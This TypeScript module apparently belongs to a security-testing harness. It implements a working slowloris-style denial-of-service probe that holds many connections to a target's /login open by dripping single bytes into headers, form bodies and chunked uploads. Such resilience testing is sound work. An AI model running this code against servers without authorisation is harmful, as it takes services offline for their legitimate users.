import type { Attack } from "./attack.ts";
import { troubleDuring } from "./availability.ts";
import { ownHost, type Target } from "./target.ts";
import { connect } from "./wire.ts";

const EACH = 60;
const DRIP_MS = 400;
/** Whoever has not said all that they want by then has to be cut off. */
const PATIENCE_MS = 20_000;

export const slowBodies: Attack = createSlowBodies(PATIENCE_MS);

export function createSlowBodies(patienceMs: number): Attack {
  return {
    name: "slow-bodies",
    about: "connections that send a byte now and then, in the headers and in the body",
    meaning: "One machine with little to do can hold all of the server's connections.",
    noun: "connections",
    verb: `were held for ${patienceMs / 1_000} seconds, or kept others out`,
    needs: ["account", "fresh"],

    async run(target, tally) {
      const beginnings = Object.entries(beginningsFor(target)).flatMap(([what, bytes]) =>
        Array.from({ length: EACH }, () => [what, bytes] as const),
      );
      const held = new Map<string, number>();
      const drip = async ([what, bytes]: (typeof beginnings)[number]): Promise<void> => {
        tally.tried();
        if ((await holds(target, bytes, patienceMs)) === "cut") return;
        held.set(what, (held.get(what) ?? 0) + 1);
      };
      const trouble = await troubleDuring(target, async () => {
        await Promise.all(beginnings.map(drip));
      });
      for (const [what, count] of held) tally.gotThrough(`${count} with ${what} were held`);
      if (trouble !== undefined) tally.gotThrough(trouble);
    },
  };
}

function beginningsFor(target: Target): Readonly<Record<string, string>> {
  const { base } = target;
  const host = `Host: ${ownHost(target)}\r\n`;
  const form = "Content-Type: application/x-www-form-urlencoded\r\n";
  return {
    "slow headers": `GET ${base}/login HTTP/1.1\r\n${host}X-Slow: `,
    "a slow body": `POST ${base}/login HTTP/1.1\r\n${host}${form}Content-Length: 60000\r\n\r\nusername=`,
    "slow chunks": `POST ${base}/login HTTP/1.1\r\n${host}${form}Transfer-Encoding: chunked\r\n\r\nffff\r\n`,
    "no word at all": "",
  };
}

/** Drips until the server has enough of it, or we have. */
function holds(target: Target, beginning: string, patienceMs: number): Promise<"held" | "cut"> {
  const { place, signal } = target;
  const socket = connect(place);
  return new Promise((resolve) => {
    const end = (how: "held" | "cut") => (): void => {
      clearTimeout(patience);
      clearInterval(dripping);
      signal?.removeEventListener("abort", giveUp);
      socket.destroy();
      resolve(how);
    };
    const giveUp = end("held");
    const patience = setTimeout(giveUp, patienceMs);
    const dripping = setInterval(() => {
      if (beginning !== "" && socket.writable) socket.write("x");
    }, DRIP_MS);
    signal?.addEventListener("abort", giveUp);
    // A reset is an end like any other. What is said before it has to be read, or it would not show.
    socket.on("error", () => undefined);
    socket.on("close", end("cut"));
    socket.resume();
    socket.write(beginning);
  });
}
